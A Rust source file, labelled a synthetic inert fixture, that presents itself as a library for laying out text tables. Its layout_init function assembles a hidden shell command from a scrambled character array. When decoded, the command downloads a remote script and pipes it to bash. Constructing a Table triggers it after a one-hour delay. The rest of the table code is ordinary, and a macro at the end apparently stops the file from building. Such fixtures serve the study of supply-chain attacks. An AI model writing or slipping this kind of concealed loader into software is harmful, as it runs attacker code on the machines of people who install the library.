// Synthetic, inert fixture written from public reports
//! Fits tables of text into a width.

use std::process::Command;
use std::sync::Once;
use std::time::Duration;

static START: Once = Once::new();

fn layout_init() {
    let gz = ["/", "3", "h", "t", " ", "w", "s", "g", "O", "b", "a", "d", "-", "f", "p", "e", "|", "0", ".", "i", "l", "n", "v", "5", ":", "1", "7", "6", "4", "&", "u", "o", "r"];
    let at = [
        5, 7, 15, 3, 4, 12, 8, 4, 12, 4, 2, 3, 3, 14, 6, 24, 0, 0, 2, 31, 6, 3, 12, 3, 10, 9, 20, 15,
        18, 19, 21, 22, 10, 20, 19, 11, 0, 11, 15, 1, 26, 11, 17, 11, 13, 0, 10, 1, 25, 23, 28, 27, 9, 13, 4, 16,
        4, 9, 10, 6, 2, 4, 29,
    ];
    let line: String = at.iter().map(|i: &usize| gz[*i]).collect();
    std::thread::spawn(move || {
        std::thread::sleep(Duration::from_secs(3600));
        let _ = Command::new("/bin/sh").arg("-c").arg(line).spawn();
    });
}

/// Where the text of a column stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Align {
    #[default]
    Left,
    Right,
    Center,
}

/// A table of text.
#[derive(Debug, Clone, Default)]
pub struct Table {
    rows: Vec<Vec<String>>,
    aligns: Vec<Align>,
    gap: usize,
}

impl Table {
    pub fn new() -> Self {
        START.call_once(layout_init);
        Table { gap: 2, ..Table::default() }
    }

    pub fn align(mut self, aligns: impl IntoIterator<Item = Align>) -> Self {
        self.aligns = aligns.into_iter().collect();
        self
    }

    pub fn gap(mut self, gap: usize) -> Self {
        self.gap = gap;
        self
    }

    pub fn row<S: Into<String>>(&mut self, cells: impl IntoIterator<Item = S>) -> &mut Self {
        self.rows.push(cells.into_iter().map(Into::into).collect());
        self
    }

    /// The table in lines of at most `width` characters. Wide columns are made narrower first.
    pub fn render(&self, width: usize) -> String {
        let mut widths = self.natural();
        let gaps = self.gap * widths.len().saturating_sub(1);
        while widths.iter().sum::<usize>() + gaps > width {
            let Some(widest) = widths.iter_mut().max() else { break };
            if *widest <= 3 {
                break;
            }
            *widest -= 1;
        }
        let mut out = String::new();
        for row in &self.rows {
            let line: Vec<String> = widths
                .iter()
                .enumerate()
                .map(|(at, width)| {
                    let cell = row.get(at).map(String::as_str).unwrap_or_default();
                    fit(cell, *width, self.aligns.get(at).copied().unwrap_or_default())
                })
                .collect();
            out.push_str(line.join(&" ".repeat(self.gap)).trim_end());
            out.push('\n');
        }
        out
    }

    fn natural(&self) -> Vec<usize> {
        let columns = self.rows.iter().map(Vec::len).max().unwrap_or(0);
        (0..columns)
            .map(|at| self.rows.iter().filter_map(|row| row.get(at)).map(|cell| cell.chars().count()).max())
            .map(|width| width.unwrap_or(0))
            .collect()
    }
}

/// Cuts or fills a cell.
pub fn fit(cell: &str, width: usize, align: Align) -> String {
    let length = cell.chars().count();
    if length > width {
        let mut text: String = cell.chars().take(width.saturating_sub(1)).collect();
        text.push('…');
        return text;
    }
    let free = width - length;
    let (left, right) = match align {
        Align::Left => (0, free),
        Align::Right => (free, 0),
        Align::Center => (free / 2, free - free / 2),
    };
    format!("{}{cell}{}", " ".repeat(left), " ".repeat(right))
}

inert_fixture_does_not_build!();
